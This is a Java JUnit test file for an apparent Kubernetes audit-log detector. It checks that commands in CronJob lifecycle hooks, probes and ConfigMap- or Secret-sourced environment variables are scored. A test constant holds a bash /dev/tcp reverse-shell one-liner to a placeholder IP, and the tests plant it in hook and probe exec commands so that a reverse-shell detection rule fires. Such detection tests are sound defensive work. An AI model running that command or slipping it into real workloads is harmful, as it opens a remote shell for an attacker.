package dev.cronsentinel.score;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.cronsentinel.model.ContainerSpec;
import dev.cronsentinel.model.EnvFromSpec;
import dev.cronsentinel.model.EnvVarSpec;
import dev.cronsentinel.model.ExecSpec;
import dev.cronsentinel.model.ScoredEvent;
import dev.cronsentinel.model.Signal;
import dev.cronsentinel.model.WorkloadEvent;
import dev.cronsentinel.testing.AuditEvents;
import dev.cronsentinel.testing.TestData;
import java.time.Instant;
import java.util.List;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;

/**
 * Issue 16, row 6: every command a container runs is scored, not only {@code command}, {@code args} and
 * literal {@code env}: lifecycle {@code postStart}/{@code preStop} and liveness/readiness/startup probe
 * {@code exec} commands, and variables from {@code valueFrom} and {@code envFrom} ConfigMaps and Secrets,
 * whose values the audit log does not carry: a shell whose whole script is such a variable is evidence.
 * Audit events go through the real decoder, pod-template extraction and default rules.
 */
class EveryCommandTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String REVERSE_SHELL = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1";

    /** A CronJob create whose only container runs the harmless {@code /app/run}, edited by {@code edit}. */
    static WorkloadEvent decode(Consumer<ObjectNode> edit) throws Exception {
        ObjectNode event = (ObjectNode) JSON.readTree(AuditEvents.cronJob("apps", "report").id("e1").at(Instant.parse("2026-11-20T10:00:00Z")).json());
        ObjectNode container = (ObjectNode) event.at("/requestObject/spec/jobTemplate/spec/template/spec/containers/0");
        edit.accept(container);
        TestData.Decoded d = TestData.decode(JSON.writeValueAsString(event));
        assertThat(d.deadLetters).isEmpty();
        assertThat(d.events).hasSize(1);
        return d.events.get(0);
    }

    static ScoredEvent score(WorkloadEvent e) {
        return TestData.defaultScorer().score(e, TestData.classifier().classify(e));
    }

    static void exec(ObjectNode container, String handler, String... command) {
        ObjectNode h = container;
        for (String seg : handler.split("\\.")) {
            h = h.has(seg) ? (ObjectNode) h.get(seg) : h.putObject(seg);
        }
        ArrayNode cmd = h.putObject("exec").putArray("command");
        for (String c : command) {
            cmd.add(c);
        }
    }

    @Test
    void aPayloadInAnyLifecycleHookOrProbeExecAlerts() throws Exception {
        ScoredEvent clean = score(decode(c -> {}));
        assertThat(clean.alertable()).isFalse();
        for (String handler : List.of("lifecycle.postStart", "lifecycle.preStop", "livenessProbe", "readinessProbe", "startupProbe")) {
            ScoredEvent s = score(decode(c -> exec(c, handler, "/bin/sh", "-c", REVERSE_SHELL)));
            assertThat(s.alertable()).as(handler).isTrue();
            assertThat(s.signals()).as(handler).filteredOn(x -> x.rule().equals("reverse-shell-dev-tcp")).extracting(Signal::path)
                    .containsExactly("requestObject.spec.jobTemplate.spec.template.spec.containers[0]." + handler + ".exec.command");
        }
    }

    @Test
    void hooksAndProbesAreCarriedIntoTheModel() throws Exception {
        WorkloadEvent e = decode(c -> {
            exec(c, "lifecycle.postStart", "touch", "/tmp/ready");
            exec(c, "readinessProbe", "cat", "/tmp/ready");
            ((ObjectNode) c.get("lifecycle")).putObject("preStop").putObject("httpGet").put("path", "/quit").put("port", 8080);
            c.putArray("envFrom").addObject().put("prefix", "APP_").putObject("secretRef").put("name", "creds");
            c.putArray("env").addObject().put("name", "TOKEN").putObject("valueFrom").putObject("secretKeyRef")
                    .put("name", "api").put("key", "token");
        });
        ContainerSpec c = e.templates().get(0).containers().get(0);
        String base = "requestObject.spec.jobTemplate.spec.template.spec.containers[0]";
        assertThat(c.execs()).containsExactly(
                new ExecSpec(base + ".lifecycle.postStart.exec.command", List.of("touch", "/tmp/ready")),
                new ExecSpec(base + ".readinessProbe.exec.command", List.of("cat", "/tmp/ready")));
        assertThat(c.envFrom()).containsExactly(new EnvFromSpec(base + ".envFrom[0]", "secret", "creds", "APP_"));
        assertThat(c.env()).containsExactly(new EnvVarSpec("TOKEN", null, "secretKeyRef api/token"));
        // A harmless probe stays quiet.
        assertThat(score(e).alertable()).isFalse();
    }

    @Test
    void aShellWhoseScriptComesFromAnEnvFromConfigMapIsEvidenceNotSilence() throws Exception {
        ScoredEvent s = score(decode(c -> {
            c.putArray("command").add("sh").add("-c").add("\"$PAYLOAD\"");
            c.putArray("envFrom").addObject().putObject("configMapRef").put("name", "settings");
        }));
        assertThat(s.alertable()).isTrue();
        assertThat(s.signals()).filteredOn(x -> x.rule().equals("opaque-shell-script")).extracting(Signal::value)
                .containsExactly("sh -c \"<unresolved env PAYLOAD from envFrom configMap settings>\"");

        // The same from a valueFrom ConfigMap key, referenced the kubelet's way in args.
        ScoredEvent keyRef = score(decode(c -> {
            c.putArray("command").add("/bin/bash").add("-c");
            c.putArray("args").add("$(SCRIPT)");
            c.putArray("env").addObject().put("name", "SCRIPT").putObject("valueFrom").putObject("configMapKeyRef")
                    .put("name", "jobs").put("key", "nightly.sh");
        }));
        assertThat(keyRef.alertable()).isTrue();
        assertThat(keyRef.signals()).extracting(Signal::rule).contains("opaque-shell-script");

        // A literal env entry wins over envFrom, as in the kubelet: its value is what runs.
        ScoredEvent literal = score(decode(c -> {
            c.putArray("command").add("sh").add("-c").add("$PAYLOAD");
            c.putArray("envFrom").addObject().putObject("configMapRef").put("name", "settings");
            c.putArray("env").addObject().put("name", "PAYLOAD").put("value", "/app/run --once");
        }));
        assertThat(literal.alertable()).isFalse();
        // A prefix limits the names an envFrom source can define.
        ScoredEvent otherPrefix = score(decode(c -> {
            c.putArray("command").add("sh").add("-c").add("$PAYLOAD");
            c.putArray("envFrom").addObject().put("prefix", "CFG_").putObject("configMapRef").put("name", "settings");
        }));
        assertThat(otherPrefix.signals()).extracting(Signal::rule).doesNotContain("opaque-shell-script", "unresolved-env-reference");
    }

    @Test
    void aSecretPassedAsAnArgumentIsEvidenceButNoAlert() throws Exception {
        ScoredEvent s = score(decode(c -> {
            c.putArray("args").add("--password=$(DB_PASSWORD)");
            c.putArray("env").addObject().put("name", "DB_PASSWORD").putObject("valueFrom").putObject("secretKeyRef")
                    .put("name", "db").put("key", "password");
        }));
        assertThat(s.alertable()).isFalse();
        assertThat(s.signals()).extracting(Signal::rule).containsExactly("unresolved-env-reference");
        assertThat(s.signals().get(0).value()).isEqualTo("/app/run --password=<unresolved env DB_PASSWORD from secretKeyRef db/password>");
    }
}
